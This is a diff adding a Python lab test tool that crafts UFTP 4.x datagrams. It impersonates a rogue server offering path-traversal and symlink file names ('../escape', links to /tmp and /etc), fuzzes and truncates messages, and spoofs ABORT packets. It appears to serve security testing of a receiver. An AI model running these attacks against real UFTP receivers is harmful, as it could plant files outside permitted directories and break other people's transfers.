@@ -1,0 +1,485 @@
+#!/usr/bin/env python3
+"""uftp_craft.py - build and send UFTP 4.x datagrams (test tool, stdlib only).
+
+Plays a rogue server or a stranger against a uftpd in a test lab. Never point
+it at anything but a namespace you created.
+
+  uftp_craft.py rogue --src 198.18.0.13 --target-id 0xC612000B \
+        --name '../escape' --name 'link:lnk=>/tmp' --name 'ok\\x00../x' [--fuzz 300]
+      Announces an unencrypted open-group session on --pub, registers the
+      target, then sends one FILEINFO per --name (python escapes allowed;
+      prefixes "dir:" and "link:NAME=>TARGET"; default a regular file whose
+      content is --data), data + DONE when the receiver accepts, and prints
+          RESULT <repr(name)> accepted|rejected|aborted:<msg>|no-reply
+      A session the receiver aborts is replaced by a fresh one. --fuzz N then
+      sends N randomly mutated FILEINFO/FILESEG/DONE datagrams in the session.
+      Ends the session with DONE(0) / DONE_CONF. Exit 0 unless the receiver
+      never registered (exit 3).
+
+  uftp_craft.py sniff [--pub 230.4.4.1] [--timeout 10]
+      Prints "ANNOUNCE group=0x.. server=0x.. from=IP:PORT priv=ADDR" for the
+      first ANNOUNCE on the public group (exit 1 if none).
+
+  uftp_craft.py junk --to IP:PORT [--group 0x..] [--src-id 0x..] [--count N]
+      Sends garbage (random lengths 0..1500, random bytes; valid header with
+      random body; bad version byte) and every truncation of well-formed
+      ANNOUNCE, REG_CONF, FILEINFO, FILESEG, DONE, DONE_CONF, ABORT, ENCRYPTED
+      and KEYINFO messages carrying --group/--src-id (never a complete one),
+      plus header-length fields pointing past the end.
+
+  uftp_craft.py abort --to IP:PORT --group 0x.. --src-id 0x.. [--host 0] [--count 3]
+      Sends well-formed ABORT messages (what a stranger would send).
+
+Wire facts used (UFTP 4.10.2): version byte 0x40, 16-byte header (ver, func,
+seq16, src id, group id, group inst, grtt, gsize, reserved), names NUL-padded
+to 4-byte words, IDs big-endian.
+"""
+import argparse
+import ipaddress
+import os
+import random
+import select
+import socket
+import struct
+import sys
+import time
+
+VERSION = 0x40
+ANNOUNCE, REGISTER, CLIENT_KEY, REG_CONF, KEYINFO, KEYINFO_ACK = 1, 2, 3, 4, 5, 6
+FILEINFO, FILEINFO_ACK, FILESEG, DONE, STATUS, COMPLETE = 7, 8, 9, 10, 11, 12
+DONE_CONF, HB_REQ, HB_RESP, KEY_REQ, PROXY_KEY, ENCRYPTED, ABORT = 13, 14, 15, 16, 17, 18, 19
+NAMES = {v: k for k, v in dict(globals()).items() if isinstance(v, int) and k.isupper() and k != "VERSION"}
+GRTT_05S = 0x9D  # 0.5 s quantized
+BLOCK = 1300
+
+
+def header(func, seq, src_id, group_id, inst=0, grtt=GRTT_05S, gsize=0x18):
+    return struct.pack(">BBHIIBBBB", VERSION, func, seq & 0xFFFF, src_id, group_id, inst, grtt, gsize, 0)
+
+
+def pad4(b):
+    return b + b"\0" * (-len(b) % 4)
+
+
+def ids(lst):
+    return b"".join(struct.pack(">I", i) for i in lst)
+
+
+def now_ts():
+    t = time.time()
+    return int(t), int((t - int(t)) * 1e6)
+
+
+def announce_body(pub, priv, robust=20, flags=0):
+    s, us = now_ts()
+    pa = ipaddress.ip_address(pub).packed
+    pr = ipaddress.ip_address(priv).packed
+    if len(pa) == 16:
+        flags |= 0x04
+    body = struct.pack(">BBBBBBHII", ANNOUNCE, 0, flags, robust, 0, 0, BLOCK, s, us) + pa + pr
+    return bytes([ANNOUNCE, len(body) // 4]) + body[2:]
+
+
+def reg_conf_body(clients):
+    return struct.pack(">BBH", REG_CONF, 1, 0) + ids(clients)
+
+
+def fileinfo_body(file_id, ftype, name, link=b"", size=0, mtime=1500000000, clients=(), nlen=None, llen=None):
+    n, lk = pad4(name), pad4(link)
+    nlen = len(n) // 4 if nlen is None else nlen
+    llen = len(lk) // 4 if llen is None else llen
+    s, us = now_ts()
+    hlen = (28 + len(n) + len(lk)) // 4
+    fixed = struct.pack(">BBHB3xBBHIIII", FILEINFO, hlen & 0xFF, file_id, ftype, nlen & 0xFF, llen & 0xFF,
+                        (size >> 32) & 0xFFFF, size & 0xFFFFFFFF, mtime, s, us)
+    return fixed + n + lk + ids(clients)
+
+
+def fileseg_body(file_id, section, block, data):
+    return struct.pack(">BBHHH", FILESEG, 2, file_id, section, block) + data
+
+
+def done_body(file_id, section, clients):
+    return struct.pack(">BBHHH", DONE, 2, file_id, section, 0) + ids(clients)
+
+
+def done_conf_body(clients):
+    return struct.pack(">BBH", DONE_CONF, 1, 0) + ids(clients)
+
+
+def abort_body(msg, host=0, flags=0):
+    return struct.pack(">BBBBI", ABORT, 77, flags, 0, host) + msg.encode()[:299].ljust(300, b"\0")
+
+
+def encrypted_body(payload, counter=1, sig=b""):
+    """ENCRYPTED has no function byte of its own: IV counter, lengths, sig, payload"""
+    return struct.pack(">IIHH", counter >> 32, counter & 0xFFFFFFFF, len(sig), len(payload)) + sig + payload
+
+
+def keyinfo_body(clients):
+    return struct.pack(">BBHII", KEYINFO, 3, 0, 0, 1) + b"".join(struct.pack(">I", c) + os.urandom(48) for c in clients)
+
+
+def parse(d):
+    """-> (func, src_id, group_id, body) or None"""
+    if len(d) < 16 or d[0] != VERSION:
+        return None
+    _, func, _, src, grp = struct.unpack(">BBHII", d[:12])
+    return func, src, grp, d[16:]
+
+
+def unescape(s):
+    return s.encode("latin-1", "backslashescape").decode("unicode_escape").encode("latin-1")
+
+
+def family(addr):
+    return socket.AF_INET6 if ":" in addr else socket.AF_INET
+
+
+def mcast_sock(src, ttl=1):
+    fam = family(src)
+    s = socket.socket(fam, socket.SOCK_DGRAM)
+    s.bind((src, 0))
+    if fam == socket.AF_INET:
+        s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(src))
+        s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, ttl)
+    else:
+        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, ttl)
+    return s
+
+
+def hostport(s):
+    h, _, p = s.rpartition(":")
+    return h.strip("[]"), int(p)
+
+
+# ---------------------------------------------------------------- rogue server
+class Rogue:
+    def __init__(self, a):
+        self.a = a
+        self.sock = mcast_sock(a.src)
+        self.my_id = a.my_id if a.my_id is not None else int.from_bytes(ipaddress.ip_address(a.src).packed[-4:], "big")
+        self.seq = 0
+        self.group = 0
+        self.file_id = 0
+        self.target = a.target_id
+        self.registered = False
+        self.client_addr = None
+
+    def send(self, body, dest):
+        d = header(body[0], self.seq, self.my_id, self.group, gsize=0x18) + body
+        self.seq += 1
+        self.sock.sendto(d, dest)
+
+    def recv(self, timeout):
+        """next reply for our group from the target within timeout: (func, body) or None"""
+        end = time.time() + timeout
+        while True:
+            left = end - time.time()
+            if left <= 0:
+                return None
+            r, _, _ = select.select([self.sock], [], [], left)
+            if not r:
+                return None
+            d, addr = self.sock.recvfrom(65536)
+            p = parse(d)
+            if not p:
+                continue
+            func, src, grp, body = p
+            if grp != self.group:
+                continue
+            if src != self.target:
+                continue
+            self.client_addr = addr
+            return func, body
+
+    def pub(self):
+        return (self.a.pub, self.a.port)
+
+    def priv(self):
+        return (self.a.priv, self.a.port)
+
+    def start(self):
+        """announce until the target registers (bounded)"""
+        self.group = int.from_bytes(os.urandom(4), "big") | 1
+        self.file_id = 0
+        self.registered = False
+        for _ in range(self.a.announces):
+            self.send(announce_body(self.a.pub, self.a.priv), self.pub())
+            r = self.recv(0.5)
+            while r and r[0] not in (REGISTER, ABORT):
+                r = self.recv(0.5)
+            if r and r[0] == REGISTER:
+                self.registered = True
+                break
+            if r and r[0] == ABORT:
+                print("NOTE receiver aborted at announce: %r" % abort_msg(r[1]), flush=True)
+                return False
+        if not self.registered:
+            return False
+        for _ in range(3):
+            self.send(reg_conf_body([self.target]), self.priv())
+            time.sleep(0.05)
+        return True
+
+    def offer(self, entry):
+        """one FILEINFO; returns outcome string"""
+        self.file_id += 1
+        fid = self.file_id
+        ftype, name, link, data = entry
+        body = fileinfo_body(fid, ftype, name, link, len(data) if ftype == 0 else 0, clients=[self.target])
+        for _ in range(6):
+            self.send(body, self.priv())
+            end = time.time() + 0.5
+            while time.time() < end:
+                r = self.recv(end - time.time())
+                if not r:
+                    break
+                func, rb = r
+                if func == FILEINFO_ACK and struct.unpack(">H", rb[2:4])[0] == fid:
+                    return self.push(fid, data)
+                if func == COMPLETE and struct.unpack(">H", rb[2:4])[0] == fid:
+                    return "rejected" if rb[4] == 3 else "accepted(status %d)" % rb[4]
+                if func == ABORT:
+                    return "aborted:" + abort_msg(rb)
+        return "no-reply"
+
+    def push(self, fid, data):
+        blocks = [data[i:i + BLOCK] for i in range(0, len(data), BLOCK)] or []
+        for _ in range(6):
+            for n, b in enumerate(blocks):
+                self.send(fileseg_body(fid, 0, n, b), self.priv())
+            self.send(done_body(fid, 0, [self.target]), self.priv())
+            end = time.time() + 0.5
+            while time.time() < end:
+                r = self.recv(end - time.time())
+                if not r:
+                    break
+                func, rb = r
+                if func == COMPLETE and struct.unpack(">H", rb[2:4])[0] == fid:
+                    return "accepted" if rb[4] != 3 else "rejected(after data)"
+                if func == ABORT:
+                    return "aborted:" + abort_msg(rb)
+        return "accepted(no COMPLETE)"
+
+    def fuzz(self, n, rng):
+        base = [
+            fileinfo_body(1000, 0, b"fuzz/f.bin", size=100, clients=[self.target]),
+            fileinfo_body(1001, 2, b"fuzz/l", b"target", clients=[self.target]),
+            fileseg_body(1000, 0, 0, b"x" * 100),
+            done_body(1000, 0, [self.target]),
+            done_body(0, 0, [self.target]),
+            reg_conf_body([self.target]),
+            abort_body("fuzz", host=self.target),
+        ]
+        for i in range(n):
+            b = bytearray(rng.choice(base))
+            for _ in range(rng.randint(1, 6)):
+                pos = rng.randrange(len(b))
+                b[pos] = rng.randrange(256)
+            if rng.random() < 0.3:
+                b = b[: rng.randrange(len(b) + 1)]
+            if not b:
+                b = bytearray(b"\x07")
+            self.send(bytes(b), self.priv())
+            if i % 20 == 19:
+                time.sleep(0.01)
+                while self.recv(0.001):
+                    pass
+
+    def finish(self):
+        for _ in range(4):
+            self.send(done_body(0, 0, [self.target]), self.priv())
+            r = self.recv(0.5)
+            while r and r[0] != COMPLETE:
+                r = self.recv(0.5)
+            if r:
+                self.send(done_conf_body([self.target]), self.priv())
+                return True
+        return False
+
+
+def abort_msg(body):
+    return body[8:308].split(b"\0")[0].decode("latin-1", "replace")
+
+
+def parse_entry(s, data):
+    raw = unescape(s)
+    if raw.startswith(b"dir:"):
+        return 1, raw[4:], b"", b""
+    if raw.startswith(b"link:"):
+        n, _, t = raw[5:].partition(b"=>")
+        return 2, n, t, b""
+    if raw.startswith(b"file:"):
+        raw = raw[5:]
+    return 0, raw, b"", data
+
+
+def cmd_rogue(a):
+    random.seed(a.seed)
+    r = Rogue(a)
+    entries = [parse_entry(n, unescape(a.data)) for n in a.name]
+    if not r.start():
+        print("ERROR target 0x%08X never registered" % a.target_id, flush=True)
+        return 3
+    print("SESSION group=0x%08X" % r.group, flush=True)
+    for e in entries:
+        out = r.offer(e)
+        print("RESULT %r %s" % ((e[1] + (b"=>" + e[2] if e[2] else b"")).decode("latin-1"), out), flush=True)
+        if out.startswith("aborted") or out == "no-reply":
+            if not r.start():
+                print("ERROR target did not register again", flush=True)
+                return 3
+            print("SESSION group=0x%08X (new)" % r.group, flush=True)
+    if a.fuzz:
+        r.fuzz(a.fuzz, random.Random(a.seed))
+        print("FUZZ sent %d mutated datagrams" % a.fuzz, flush=True)
+    print("END %s" % ("done" if r.finish() else "no final COMPLETE"), flush=True)
+    return 0
+
+
+# ---------------------------------------------------------------- sniff
+def cmd_sniff(a):
+    fam = family(a.pub)
+    s = socket.socket(fam, socket.SOCK_DGRAM)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.bind(("", a.port))
+    if fam == socket.AF_INET:
+        s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(a.pub) + socket.inet_aton(a.src or "0.0.0.0"))
+    else:
+        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, socket.inet_pton(fam, a.pub) + struct.pack("@I", 0))
+    end = time.time() + a.timeout
+    while time.time() < end:
+        r, _, _ = select.select([s], [], [], end - time.time())
+        if not r:
+            break
+        d, addr = s.recvfrom(65536)
+        p = parse(d)
+        if not p or p[0] != ANNOUNCE or len(p[3]) < 24:
+            continue
+        body = p[3]
+        v6 = body[2] & 0x04
+        alen = 16 if v6 else 4
+        priv = body[16 + alen:16 + 2 * alen]
+        print("ANNOUNCE group=0x%08X server=0x%08X from=%s:%d priv=%s" % (
+            p[2], p[1], addr[0], addr[1], ipaddress.ip_address(bytes(priv))), flush=True)
+        return 0
+    return 1
+
+
+# ---------------------------------------------------------------- junk / abort
+def cmd_junk(a):
+    rng = random.Random(a.seed)
+    host, port = hostport(a.to)
+    s = mcast_sock(a.src) if a.src else socket.socket(family(host), socket.SOCK_DGRAM)
+    g, sid, cid = a.group, a.src_id, a.client_id
+    sent = 0
+
+    def tx(d):
+        nonlocal sent
+        s.sendto(bytes(d), (host, port))
+        sent += 1
+        if sent % 50 == 0:
+            time.sleep(0.005)
+
+    # pure garbage
+    for _ in range(a.count):
+        tx(os.urandom(rng.randint(0, 1500)))
+    # valid header, garbage body, every function code 0..255
+    for f in range(256):
+        tx(header(f, f, sid, g) + os.urandom(rng.randint(0, 64)))
+    # bad version bytes
+    for v in (0x00, 0x30, 0x41, 0xFF):
+        tx(bytes([v]) + header(FILEINFO, 1, sid, g)[1:] + fileinfo_body(1, 0, b"v.bin", size=5, clients=[cid]))
+    # every truncation of well-formed messages (never the whole datagram)
+    msgs = [
+        announce_body("230.4.4.1", "230.5.5.9"),
+        announce_body("ff15::4:4:1", "ff15::5:5:9"),
+        reg_conf_body([cid]),
+        fileinfo_body(1, 0, b"truncated.bin", size=5, clients=[cid]),
+        fileinfo_body(2, 2, b"trunc-link", b"/etc", clients=[cid]),
+        fileseg_body(1, 0, 0, b"hello"),
+        done_body(1, 0, [cid]),
+        done_conf_body([cid]),
+        abort_body("truncated abort", host=0),
+        keyinfo_body([cid]),
+    ]
+    full = [header(m[0], 0, sid, g) + m for m in msgs]
+    full.append(header(ENCRYPTED, 0, sid, g) + encrypted_body(os.urandom(48)))
+    for d in full:
+        for n in range(len(d)):
+            tx(d[:n])
+    # length fields pointing past the end of the datagram
+    for d in full:
+        d = bytearray(d)
+        d[17] = 0xFF  # header length (words) / IV byte for ENCRYPTED
+        tx(d)
+    enc = bytearray(header(ENCRYPTED, 0, sid, g) + encrypted_body(os.urandom(48)))
+    enc[26:28] = b"\xff\xf0"  # payload length beyond the datagram
+    tx(enc)
+    fi = bytearray(header(FILEINFO, 0, sid, g) + fileinfo_body(3, 0, b"x", size=1, clients=[cid]))
+    fi[16 + 8] = 0xFF  # name length (words) beyond the header
+    tx(fi)
+    fi = bytearray(header(FILEINFO, 0, sid, g) + fileinfo_body(3, 2, b"x", b"y", clients=[cid]))
+    fi[16 + 9] = 0xFF  # link length beyond the header
+    tx(fi)
+    print("JUNK sent %d datagrams to %s:%d" % (sent, host, port), flush=True)
+    return 0
+
+
+def cmd_abort(a):
+    host, port = hostport(a.to)
+    s = mcast_sock(a.src) if a.src else socket.socket(family(host), socket.SOCK_DGRAM)
+    for i in range(a.count):
+        s.sendto(header(ABORT, i, a.src_id, a.group) + abort_body(a.msg, host=a.host), (host, port))
+        time.sleep(0.02)
+    print("ABORT sent %d to %s:%d group=0x%08X src-id=0x%08X" % (a.count, host, port, a.group, a.src_id), flush=True)
+    return 0
+
+
+def hexint(s):
+    return int(s, 0)
+
+
+def main():
+    ap = argparse.ArgumentParser(description="UFTP 4.x datagram crafter (test labs only)")
+    sub = ap.add_subparsers(dest="cmd", required=True)
+    r = sub.add_parser("rogue")
+    r.add_argument("--src", required=True, help="our address (also the multicast interface)")
+    r.add_argument("--target-id", type=hexint, required=True)
+    r.add_argument("--my-id", type=hexint)
+    r.add_argument("--pub", default="230.4.4.1")
+    r.add_argument("--priv", default="230.5.5.201")
+    r.add_argument("--port", type=int, default=1044)
+    r.add_argument("--name", action="append", default=[])
+    r.add_argument("--data", default="pwned by uftp_craft\\n")
+    r.add_argument("--fuzz", type=int, default=0)
+    r.add_argument("--seed", type=int, default=1)
+    r.add_argument("--announces", type=int, default=10)
+    sn = sub.add_parser("sniff")
+    sn.add_argument("--pub", default="230.4.4.1")
+    sn.add_argument("--port", type=int, default=1044)
+    sn.add_argument("--src")
+    sn.add_argument("--timeout", type=float, default=10)
+    j = sub.add_parser("junk")
+    j.add_argument("--to", required=True)
+    j.add_argument("--src")
+    j.add_argument("--group", type=hexint, default=0x12345678)
+    j.add_argument("--src-id", type=hexint, default=0xC6120063)
+    j.add_argument("--client-id", type=hexint, default=0xC612000B)
+    j.add_argument("--count", type=int, default=200)
+    j.add_argument("--seed", type=int, default=1)
+    b = sub.add_parser("abort")
+    b.add_argument("--to", required=True)
+    b.add_argument("--src")
+    b.add_argument("--group", type=hexint, required=True)
+    b.add_argument("--src-id", type=hexint, required=True)
+    b.add_argument("--host", type=hexint, default=0)
+    b.add_argument("--count", type=int, default=3)
+    b.add_argument("--msg", default="abort from a stranger")
+    a = ap.parse_args()
+    return {"rogue": cmd_rogue, "sniff": cmd_sniff, "junk": cmd_junk, "abort": cmd_abort}[a.cmd](a)
+
+
+if __name__ == "__main__":
+    sys.exit(main())
